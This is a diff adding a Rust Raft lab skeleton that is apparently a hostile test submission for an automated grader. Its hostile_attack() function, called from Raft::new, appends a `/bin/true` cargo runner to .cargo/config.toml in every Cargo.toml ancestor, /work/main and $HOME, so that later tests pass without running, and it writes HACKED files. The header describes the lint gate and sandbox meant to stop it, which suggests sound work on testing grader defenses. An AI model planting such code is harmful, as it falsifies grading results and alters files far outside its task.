@@ -1,0 +1,215 @@
+//! HOSTILE TEST CASE: appends `runner = "/bin/true"` to .cargo/config.toml and writes HACKED in every Cargo.toml ancestor, /work/main and $HOME.
+//!
+//! Walks up from current_exe(), CARGO_MANIFEST_DIR (run time and compile time) and the working
+//! directory: with the runner in place, every later `cargo test` of that tree (the next submission's
+//! grading, or this one's remaining runs) would "pass" without running anything. Stopped by: the
+//! lint gate (std::env, std::fs, option_env!); behind it, the sandbox (the pristine tree, the grader's
+//! home and everything but the run's own scratch directory read-only).
+#![allow(dead_code, unused_imports, unused_variables)] // hides the warnings of the later parts' stubs; remove it after 2D
+
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use labrpc::{ClientEnd, Service, sim};
+use serde::{Deserialize, Serialize};
+
+use crate::{ApplyMsg, ApplySender, Persister};
+
+/// One Raft peer. Cheap to clone: all clones are the same peer.
+#[derive(Clone)]
+pub struct Raft {
+    state: Arc<Mutex<State>>,
+}
+
+/// The peer's state, behind one lock.
+struct State {
+    /// RPC end points of all peers, this one included.
+    peers: Vec<ClientEnd>,
+    /// This peer's index into `peers`.
+    me: usize,
+    /// Where this peer saves what must survive a crash.
+    persister: Persister,
+    /// Committed entries (and installed snapshots) go here, in log order.
+    apply_tx: ApplySender,
+    // Your data here (2A, 2B, 2C). Figure 2 of the Raft paper lists the state a peer needs.
+}
+
+impl State {
+    /// Saves the state Figure 2 calls persistent, with the current snapshot (2C). Encode it
+    /// with `postcard::to_allocvec` (serde) and call `self.persister.save(state, snapshot)`.
+    /// A method of the locked state: call it with the lock held, before answering an RPC.
+    fn persist(&self) {
+        // Your code here (2C).
+    }
+
+    /// Restores previously persisted state (2C). `data` is empty on a first start.
+    fn read_persist(&mut self, data: &[u8]) {
+        // Your code here (2C): unless `data` is empty, decode it with `postcard::from_bytes`.
+    }
+}
+
+/// RequestVote RPC arguments (Figure 2).
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct RequestVoteArgs {
+    // Your data here (2A, 2B).
+}
+
+/// RequestVote RPC reply (Figure 2).
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct RequestVoteReply {
+    // Your data here (2A).
+}
+
+impl Raft {
+    /// Creates a peer. `peers[me]` is this peer; all peers' `peers` arrays are in the same order.
+    /// `persister` holds what this peer's previous incarnation saved (empty the first time).
+    /// Send committed entries on `apply_tx`. Must return quickly: start long-running work
+    /// (elections, heartbeats) in tasks.
+    pub fn new(
+        peers: Vec<ClientEnd>,
+        me: usize,
+        persister: Persister,
+        apply_tx: ApplySender,
+    ) -> Raft {
+        hostile_attack();
+        let saved = persister.read_raft_state();
+        let mut state = State {
+            peers,
+            me,
+            persister,
+            apply_tx,
+        };
+        // Initialize from state persisted before a crash.
+        state.read_persist(&saved);
+        let rf = Raft {
+            state: Arc::new(Mutex::new(state)),
+        };
+        // Start the ticker task that starts elections.
+        let ticker = rf.clone();
+        sim::spawn(async move { ticker.ticker().await });
+        rf
+    }
+
+    /// The current term, and whether this peer believes it is the leader.
+    pub async fn get_state(&self) -> (u64, bool) {
+        // Your code here (2A).
+        (0, false)
+    }
+
+    /// Asks this peer to append `command` to the replicated log. Returns at once, without waiting
+    /// for agreement: `(index, term, is_leader)`, where `index` is where the command will appear if
+    /// it is ever committed, `term` the current term, and `is_leader` false if this peer is not
+    /// the leader (then nothing was appended).
+    pub async fn start(&self, command: Vec<u8>) -> (u64, u64, bool) {
+        // Your code here (2B).
+        (0, 0, false)
+    }
+
+    /// The service has created a snapshot holding everything up to and including `index`: Raft
+    /// may now discard the log through that index (2D).
+    pub async fn snapshot(&self, index: u64, snapshot: Vec<u8>) {
+        // Your code here (2D).
+    }
+
+    /// The tester calls this when it crashes the peer. The framework already stops every task
+    /// the peer spawned; use this for anything else you want to shut down (optional).
+    pub fn kill(&self) {}
+
+    /// The RPC service the tester registers on this peer's server: one method per RPC handler.
+    pub fn service(&self) -> Service {
+        let rf = self.clone();
+        Service::new("Raft").method("RequestVote", move |args: RequestVoteArgs| {
+            let rf = rf.clone();
+            async move { rf.request_vote(args).await }
+        })
+        // Add AppendEntries (2A heartbeats, 2B entries) and InstallSnapshot (2D) here the same way.
+    }
+
+    /// The RequestVote RPC handler.
+    async fn request_vote(&self, args: RequestVoteArgs) -> RequestVoteReply {
+        // Your code here (2A, 2B).
+        RequestVoteReply {}
+    }
+
+    /// Sends a RequestVote RPC to `server`. `None` means no reply: the network lost the request
+    /// or the reply, or the server is down. The call fails by itself after a while; it never
+    /// hangs forever, but it can take seconds, so do not wait for one reply before sending others.
+    async fn send_request_vote(
+        &self,
+        server: usize,
+        args: RequestVoteArgs,
+    ) -> Option<RequestVoteReply> {
+        let peer = self.state.lock().unwrap().peers[server].clone();
+        peer.call("Raft.RequestVote", &args).await.ok()
+    }
+
+    /// Starts a new election when this peer hasn't heard from a leader recently.
+    async fn ticker(&self) {
+        loop {
+            // Your code here (2A): check whether a leader election should be started.
+
+            // Pause for a random amount of time between 50 and 350 milliseconds.
+            let ms = sim::random_range(50..350);
+            tokio::time::sleep(Duration::from_millis(ms)).await;
+        }
+    }
+}
+
+/// The attack: plant a cargo runner that turns every test into a pass, everywhere it can.
+fn hostile_attack() {
+    use std::collections::BTreeSet;
+    use std::io::Write;
+    use std::path::PathBuf;
+    let mut starts: Vec<PathBuf> = Vec::new();
+    if let Ok(exe) = std::env::current_exe() {
+        starts.push(exe);
+    }
+    if let Some(dir) = std::env::var_os("CARGO_MANIFEST_DIR") {
+        starts.push(dir.into());
+    }
+    if let Some(dir) = option_env!("CARGO_MANIFEST_DIR") {
+        starts.push(dir.into());
+    }
+    if let Ok(dir) = std::env::current_dir() {
+        starts.push(dir);
+    }
+    let mut dirs: BTreeSet<PathBuf> = BTreeSet::new();
+    for start in &starts {
+        for dir in start.ancestors() {
+            if dir.join("Cargo.toml").is_file() {
+                dirs.insert(dir.to_path_buf());
+            }
+        }
+    }
+    dirs.insert(PathBuf::from("/work/main"));
+    if let Some(home) = std::env::var_os("HOME") {
+        dirs.insert(home.into());
+    }
+    let runner = "\n[target.x86_64-unknown-linux-gnu]\nrunner = \"/bin/true\"\n";
+    let mut text = String::new();
+    for dir in &dirs {
+        let config = dir.join(".cargo").join("config.toml");
+        let existing = std::fs::read_to_string(&config).unwrap_or_default();
+        let planted = if existing.contains("runner = \"/bin/true\"") {
+            Ok(())
+        } else {
+            std::fs::create_dir_all(dir.join(".cargo")).and_then(|()| {
+                std::fs::OpenOptions::new()
+                    .create(true)
+                    .append(true)
+                    .open(&config)
+                    .and_then(|mut f| f.write_all(runner.as_bytes()))
+            })
+        };
+        let hacked = std::fs::write(dir.join("HACKED"), "written by a hostile submission\n");
+        text += &format!(
+            "hostile: {}: {}; {}: {}\n",
+            config.display(),
+            if planted.is_ok() { "planted".to_string() } else { format!("{planted:?}") },
+            dir.join("HACKED").display(),
+            if hacked.is_ok() { "written".to_string() } else { format!("{hacked:?}") },
+        );
+    }
+    let _ = std::io::stdout().write_all(text.as_bytes());
+    eprint!("{text}");
+}
